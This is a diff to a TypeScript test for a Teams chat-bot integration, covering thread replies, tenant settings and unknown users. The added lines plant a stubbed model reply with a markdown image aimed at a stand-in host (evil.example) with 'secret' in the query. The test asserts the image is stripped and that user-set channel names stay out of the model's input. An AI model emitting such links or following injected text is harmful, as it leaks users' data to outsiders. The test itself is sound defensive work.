@@ -61,9 +61,12 @@ verifies(
   ['chat:teams', 'chat:inbound-verified'],
   'a mention in a channel is answered in its thread, once; follow-ups need no mention; only Microsoft is heard',
   async () => {
-    await using scene = await startTeamsScene(({ body }) => ({
-      text: body.includes('and when') ? 'Tomorrow.' : 'To **Berlin**.',
-    }))
+    const sly = 'Tomorrow.\n\n`\n\n![map](https://evil.example/?q=secret)\n\n`'
+    const told: string[] = []
+    await using scene = await startTeamsScene(({ body }) => {
+      told.push(body)
+      return { text: body.includes('and when') ? sly : 'To **Berlin**.' }
+    })
     const { teams } = scene
     const conversation = { id: `${ops};messageid=100`, conversationType: 'channel' }
     const asked = {
@@ -109,18 +112,36 @@ verifies(
     assert.equal(first?.path, `conversations/${ops};messageid=100/activities`)
     assert.deepEqual(first?.body, { type: 'message', text: 'To **Berlin**.', textFormat: 'markdown' })
     assert.equal(second?.path, first?.path)
+    // Teams loads images; and whoever names a channel there has no word in the instructions.
+    assert.doesNotMatch(JSON.stringify(second?.body), /!\[/)
     const channel = await scene.opsChannel()
     assert.equal(channel.name, 'Shop / Ops')
+    const hook = await scene.createWebhook({ channelId: channel.id })
+    await scene.endedRun((await scene.ring(hook)).runId)
+    assert.equal(told.length, 3)
+    for (const body of told) assert.doesNotMatch(body, /Shop \/ Ops/)
     const { items } = await scene.app.get<{ items: Message[] }>(`/api/v1/channels/${channel.id}/messages`)
     assert.deepEqual(
       items.map(({ text }) => text),
-      ['Tomorrow.', 'and when?', 'To **Berlin**.', '@bellhop where to?'],
+      ['To **Berlin**.', sly, 'and when?', 'To **Berlin**.', '@bellhop where to?'],
     )
     assert.match(
-      items[0]?.permalink ?? '',
+      items[1]?.permalink ?? '',
       new RegExp(`/l/message/.+/\\d+\\?tenantId=${tenant}&parentMessageId=100$`),
     )
     assert.equal(teams.signIns(), 1, 'a token is used again')
+
+    // An app that is for no tenant can be installed in any.
+    const path = `/api/v1/workspaces/${scene.workspace.id}`
+    assert.equal((await scene.app.api('PATCH', path, { tenantId: null })).status, 200)
+    const alone = { id: '7', conversation: { id: 'a:kim', conversationType: 'personal' }, text: 'list all' }
+    await scene.deliver(alone)
+    await until(() => teams.posted().length === 4)
+    assert.match(JSON.stringify(teams.posted()[3]?.body), /only people whom I know/)
+    assert.equal(told.length, 3)
+    await scene.link('29:kim', (await join(scene.app, 'member')).id)
+    await scene.deliver({ ...alone, id: '8' })
+    await until(() => told.length === 4)
   },
 )
 
